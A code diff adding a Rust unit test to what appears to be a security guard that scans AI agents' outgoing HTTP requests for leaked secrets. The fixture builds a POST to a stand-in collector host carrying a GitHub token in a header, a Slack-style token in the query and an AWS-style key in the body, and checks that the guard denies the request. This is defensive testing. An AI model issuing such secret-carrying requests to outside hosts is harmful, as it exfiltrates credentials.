@@ -179,6 +179,40 @@ rules:
     assert!(!without.evaluate(&Action::http("GET", "https://webhook.site/x"), &prod_agent()).allowed());
 }
 
+/// The URL, its query, the headers and the body are scanned together; each finding names its part.
+#[test]
+fn findings_name_the_part_of_the_request_they_are_in() {
+    let g = guard(ACME);
+    let mut headers = std::collections::BTreeMap::new();
+    headers.insert("X-Debug".to_owned(), format!("token {GITHUB_TOKEN}"));
+    headers.insert("Content-Type".to_owned(), "application/json".to_owned());
+    let slack = "xoxb-901754164124-570853517593-afc8b2af2c9298089f2cf8d7";
+    let action = Action::Http {
+        method: "POST".into(),
+        url: format!("https://collector.example.net/x?tok={slack}&page=2"),
+        headers,
+        body: Some(json!({"events": [{"id": 1, "aws": "AKIAOXJVGUXI23G24W4E"}]})),
+    };
+    let v = g.evaluate(&action, &prod_agent());
+    assert_eq!(v.decision, Decision::Deny, "{}", v.reason);
+    let mut found: Vec<(String, Option<(usize, usize)>)> = v
+        .findings
+        .iter()
+        .filter(|f| f.intent == Intent::EgressSecret)
+        .map(|f| (f.path.clone().unwrap_or_default(), Some((f.span.start, f.span.end))))
+        .collect();
+    found.sort();
+    assert_eq!(
+        found,
+        [
+            ("$.body.events[0].aws".to_owned(), Some((0, 20))),
+            ("$.headers.X-Debug".to_owned(), Some((6, 6 + GITHUB_TOKEN.len()))),
+            // A query parameter's span is within its (decoded) value.
+            ("$.url?tok".to_owned(), Some((0, slack.len()))),
+        ]
+    );
+}
+
 #[test]
 fn the_organisation_decides_where_secrets_and_personal_data_may_go() {
     let g = guard(ACME);
